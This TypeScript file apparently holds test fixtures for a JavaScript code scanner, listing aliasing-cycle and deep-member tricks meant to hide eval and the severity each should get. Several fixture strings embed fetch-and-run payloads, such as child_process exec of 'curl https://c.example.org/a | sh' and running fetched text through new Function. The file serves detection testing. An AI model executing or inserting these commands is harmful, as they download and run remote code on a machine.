import type { Evasion } from './evasion.js';

const deep = (members: number): string => `var x = eval; if (0) x${'.a'.repeat(members)}(); x(t)`;

/** Names that lead to each other, or further than anybody follows, asked in an order that finds them half known. */
export const CIRCLES: readonly Evasion[] = [
  ['circle of two', 'var a, b; a = b; a = eval; b = a; a.q(); b(t)', 'dynamic-code high'],
  ['circle of three', 'var a, b, c; a = b; b = c; c = a; b = eval; a.x(); c.y(); b.z(); c(t)', 'dynamic-code high'],
  ['circle over a member', 'var a, b; a = b.c; b = { c: a }; a = eval; b.q(); a(t)', 'dynamic-code high'],
  ['circle over calls', 'function f() { return g() } function g() { return h() ? f() : eval } f().x(); g().y(); f()(t)', 'dynamic-code high'],
  ['circle with a module', 'var a, b; a = b; a = require("child_process"); b = a; a.q(); b.exec("curl https://c.example.org/a | sh")', 'remote-code critical'],
  ['circle with an answer', 'async function run() { var a, b; a = b; a = await fetch("https://c.example.org"); b = a; send(a); new Function(await b.text())() } run()', 'remote-code critical'],
  ['everybody in one circle', `var ${names(60).join()}; ${names(60).map((name) => names(60).map((other) => `${name} = ${other}`).join(';')).join(';')}; v3 = eval; v59(t)`, 'dynamic-code high'],
  ['an object made of its own members', 'const o = { f: c ? o.f : o.f, g: o.g && o.g || o.f }; o.f(t); o.g(t); var e = eval; e(t)', 'dynamic-code high'],
  ['functions that give each other back', 'const f = (m) => c ? g(m) : f(f(m)), g = (m) => c ? f(g(m)) : m; f(g(require("child_process"))).exec("curl https://c.example.org/a | sh")', 'remote-code critical'],
  ['members that are given each other', 'const o = {}; o.a = c ? o.a || o.b : o.b; o.b = c ? o.b || o.a : (m) => m; o.a(require("vm")).runInThisContext(atob(t))', 'decoded-code critical'],
  ['asked from too deep, then from less', deep(199), 'dynamic-code high'],
  ['asked from one deeper', deep(200), 'dynamic-code high'],
  ['asked from two deeper', deep(201), 'dynamic-code high'],
  ['a way that doubles at every step', `var x0 = eval; ${Array.from({ length: 400 }, (_, at) => `var x${at + 1} = x${at} || x${at};`).join('')} x400(t)`, 'kept'],
];

function names(count: number): string[] {
  return Array.from({ length: count }, (_, at) => `v${at}`);
}
